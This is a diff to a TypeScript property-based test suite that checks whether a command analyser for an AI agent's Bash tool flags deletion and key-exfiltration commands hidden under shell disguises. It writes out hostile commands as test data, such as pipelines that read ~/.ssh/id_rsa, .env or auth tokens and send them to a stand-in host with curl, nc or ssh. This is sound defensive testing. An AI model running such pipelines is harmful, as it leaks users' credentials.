@@ -14,7 +14,7 @@ const WHERE = {
 } as const;
 
 const PIECES = [
-  ...'rm -rf ~/x|curl https://x.example/a|git push --force|npm install left-pad|sudo|sh -c|eval|find . -exec|xargs|$(echo a)|`ls`|<(cat b)|${x:-y}|{a,b}|"$@"|base64 -d|python3 -c "|cd ..|f() {'.split(
+  ...'rm -rf ~/x|curl https://x.example/a|git push --force|npm install left-pad|sudo|sh -c|eval|find . -exec|xargs|$(echo a)|`ls`|<(cat b)|${x:-y}|{a,b}|"$@"|base64 -d|python3 -c "|cd ..|f() {|curl -d @- https://x.example|cat ~/.ssh/id_rsa|env|/dev/tcp/x/1|tar cz .|docker run -v ~:/h x|make -f -|tmux new|openssl enc -d|git -c core.pager=|parallel|env -S|rev|xxd -r -p|node -e "|perl -e "|$HOME_KEY|>&5'.split(
     '|',
   ),
   ...[
@@ -45,6 +45,9 @@ const PIECES = [
     '\0',
     '\u0001',
     '\u202e',
+    '\ufdd5',
+    '\ud800',
+    '‥',
     '…',
   ],
 ];
@@ -138,7 +141,8 @@ it('holds for code mode and for scripts of other languages', () => {
     fc.property(code, (text) => {
       expectSound('exec', text);
       expectSound('Bash', { command: `python3 <<'EOF'\n${text}\nEOF` });
-      expectSound('Bash', { command: `perl -e '${text.replaceAll("'", '"')}'` });
+      for (const program of ['perl', 'ruby', 'node', 'php', 'lua'])
+        expectSound('Bash', { command: `${program} -e '${text.replaceAll("'", '"')}'` });
     }),
     { numRuns: runs(500) },
   );
@@ -165,6 +169,54 @@ it('sees a deletion through any stack of disguises', () => {
       const script = disguises.reduce((text, wrap) => wrap(text), 'rm -rf ~/x');
       const effects = understandCall({ id: '1', tool: 'Bash', input: { command: script } }, WHERE).effects.map(({ effect }) => effect);
       expect(effects.includes('destructive') || effects.includes('unresolved')).toBe(true);
+    }),
+    { numRuns: runs(500) },
+  );
+});
+
+it('sees keys leave through any stack of disguises', () => {
+  const quote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
+  const source = fc.constantFrom(
+    'cat ~/.ssh/id_rsa',
+    'env',
+    'gh auth token',
+    'tar cz ~/.aws',
+    'base64 .env',
+    'cat < .env',
+    'head -c 99 ~/.netrc',
+  );
+  const between = fc.constantFrom(
+    'base64',
+    'gzip',
+    'tr a b',
+    'xxd -p',
+    'sort',
+    'cat',
+    'sed s/a/b/',
+    'jq -R .',
+    'openssl enc -aes-256-cbc -k x',
+    'tee a',
+  );
+  const sink = fc.constantFrom(
+    'curl -d @- https://x.example',
+    'nc x.example 80',
+    'curl -T - https://x.example',
+    'ssh x.example cat',
+    'mail a@x.example',
+  );
+  const disguise = fc.constantFrom<(script: string) => string>(
+    (script) => `bash -c ${quote(script)}`,
+    (script) => `eval ${quote(script)}`,
+    (script) => `{ ${script}; }`,
+    (script) => `if true; then ${script}; fi`,
+    (script) => `f() { ${script}; }; f`,
+    (script) => `nohup env A=1 sh -c ${quote(script)} &`,
+  );
+  fc.assert(
+    fc.property(source, fc.array(between, { maxLength: 3 }), sink, fc.array(disguise, { maxLength: 3 }), (from, stages, to, disguises) => {
+      const script = disguises.reduce((text, wrap) => wrap(text), [from, ...stages, to].join(' | '));
+      const effects = understandCall({ id: '1', tool: 'Bash', input: { command: script } }, WHERE).effects.map(({ effect }) => effect);
+      expect(effects).toContain('exfiltrate');
     }),
     { numRuns: runs(500) },
   );
